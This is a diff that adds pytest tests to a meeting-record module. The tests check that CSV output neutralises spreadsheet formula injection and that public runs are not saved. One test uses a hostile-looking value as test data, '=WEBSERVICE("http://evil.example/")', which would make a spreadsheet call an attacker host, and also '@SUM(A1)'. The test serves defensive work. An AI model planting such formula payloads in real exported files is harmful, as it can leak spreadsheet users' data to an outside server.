@@ -75,3 +75,31 @@ def test_a_broken_record_is_one_line_naming_the_file(tmp_path: Path) -> None:
     (folder / "record.json").write_text("{not json", encoding="utf-8")
     with pytest.raises(ValueError, match=r"record\.json: expected a JSON object"):
         list_meeting_records(tmp_path / "history")
+
+
+def test_the_history_holds_no_formula_and_reads_back_what_was_given(tmp_path: Path) -> None:
+    dataset = _dataset()
+    dataset.commitments.loc[0, "status"] = '=WEBSERVICE("http://evil.example/")'
+    judgements = _judgements("Red", -3.5)
+    judgements.loc[0, "measure_id"] = "@SUM(A1)"
+    folder = record_meeting(tmp_path, _plan("2026-07"), judgements, dataset, "t1")
+    assert folder is not None
+    for name in ("commitments.csv", "judgements.csv"):
+        text = (folder / name).read_text(encoding="utf-8")
+        cells = [cell for line in text.splitlines() for cell in line.split(",")]
+        assert not any(cell.startswith(("=", "@")) for cell in cells), name
+    assert "-3.5" in (folder / "judgements.csv").read_text(encoding="utf-8")
+    kept = read_meeting_record(folder)
+    assert kept.commitments["status"].tolist() == ['=WEBSERVICE("http://evil.example/")']
+    assert kept.judgements["measure_id"].tolist() == ["@SUM(A1)"]
+    assert kept.judgements["current"].tolist() == ["-3.5"]
+
+
+def test_a_public_run_is_not_recorded(tmp_path: Path) -> None:
+    # The record holds the Board's commitments and actions, and a meeting is read as its
+    # latest run: a public version must neither sit in a public folder nor replace it.
+    public = Job("vawg", "delivery_strategy", {"audience": "public"}, "VAWG", strategy="vawg")
+    overview = Job("plan-overview", "plan_overview", {}, "Overview")
+    plan = RunPlan("2026-07-public", "heading", (public, overview), "2026-07", "2026-09")
+    assert record_meeting(tmp_path, plan, _judgements("Red", 1), _dataset(), "t1") is None
+    assert not (tmp_path / "history").exists()
